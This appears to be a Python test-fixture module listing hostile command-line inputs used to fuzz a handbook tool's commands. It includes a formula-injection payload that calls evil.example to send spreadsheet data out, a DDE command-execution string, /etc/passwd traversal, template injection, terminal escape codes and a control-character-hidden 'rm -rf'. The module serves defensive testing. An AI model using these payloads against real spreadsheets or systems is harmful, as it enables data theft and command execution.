"""Hostile command-line input: what a careless or hostile user may type after any `lis` command.

Each list is one class of attack (issue 23 asks every class to be named):

- `COMMAND_PAYLOADS`, class *injection and odd text*: YAML, Markdown, Jinja, formula, terminal and
  path syntax in any argument (swept through every argument of every command in
  `tests/test_commands.py::test_sweep_every_command_argument_with_hostile_input`).
- `NUMBER_PAYLOADS`, class *numbers Python reads too generously* (`str.isdigit` accepts ², ①;
  `int()` accepts Arabic-Indic and full-width digits and underscores): every argument that is a year.
- `LIMIT_PAYLOADS`, class *sizes and bytes no argument may hold*: very long values, NUL, C0 and C1
  control characters, lone surrogates.
- `DANGEROUS_TARGETS`, class *a command deletes or overwrites what it did not write* (issue 23's
  critical item): every output argument and a `site` link against the handbook itself, its sources,
  the folder above it, home, a folder with someone else's file, links to such folders and an earlier
  output that a person has added to (`tests/test_command_safety.py`).

The shared output-context payloads (`tests.hostile.PAYLOADS`, when that module has them) are added,
so the command sweep grows with the corpus.
"""

from __future__ import annotations

from tests import hostile

COMMAND_PAYLOADS: list[str] = [
    "", " ", "Ekonomi: ny", "#1 System", "Ja", "null", "[lista]", "{a: 1}", "*alias", "&ankare x", "!tagg x",
    "Rad\n    leverantör: Ond AB", "Rad\n  - Ond: https://evil.example", "a\r\nb", "ord\vord\0", "a\u2028b",
    '=HYPERLINK("http://evil.example/?"&A2,"Klicka")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "'=1+1", "''=1+1",
    "1_000", "0x1F", "1.5e+3", "3000", "-5", "0", "1999", "2027.5", "abc", "9" * 300,
    "{{ 7*7 }}", "{% if %}", "\x1b[31mröd\x1b[0m", "\u202eevil", "900101-1239",
    "../../../../etc/passwd", "/etc/passwd", "/dev/null/x", "/proc/x", "finns-inte.xlsx", "data", "mkdocs.yml",
    "--help", "-x", "--ersatt",
]

NUMBER_PAYLOADS: list[str] = [
    "²", "2025²", "①", "ledningens-genomgang/①", "ledningens-genomgang/²⁰²⁵", "٢٠٢٥", "２０２５", "𝟐𝟎𝟐𝟓",
    "2_025", " 2025", "2025 ", "+2025", "२०२५", "Ⅻ", "½", "2025\u200b",
]

LIMIT_PAYLOADS: list[str] = [
    "a" * 5_000, "å" * 300, "x/" * 2_000, "\0", "2025\0", "a\0b", "\x01\x02\x7f", "\x85\x9b31m", "\udcff", "x\udce5.csv",
    "\x1b]0;titel\x07", "\x08\x08\x08rm -rf",
]

# Output targets that no command may ever delete or overwrite (names resolved by the test):
# the handbook and its sources, the folder above, home, someone else's folder and file, links to them.
DANGEROUS_TARGETS: list[str] = [
    ".", "data", "docs", ".git", "..", "~", "främmande", "främmande/min-fil.txt", "länk", "länk/min-fil.txt",
    "länk-till-handboken", "data/system.yaml", "docs/index.md", "mkdocs.yml", ".git/HEAD", "~/privat.txt",
    "docs/../data", "./././data/", "slinga", "slinga/x",
]

PAYLOADS: list[str] = [*COMMAND_PAYLOADS, *NUMBER_PAYLOADS, *LIMIT_PAYLOADS,
                       *(t for t in DANGEROUS_TARGETS if t not in COMMAND_PAYLOADS),
                       *getattr(hostile, "PAYLOADS", {}).values()]
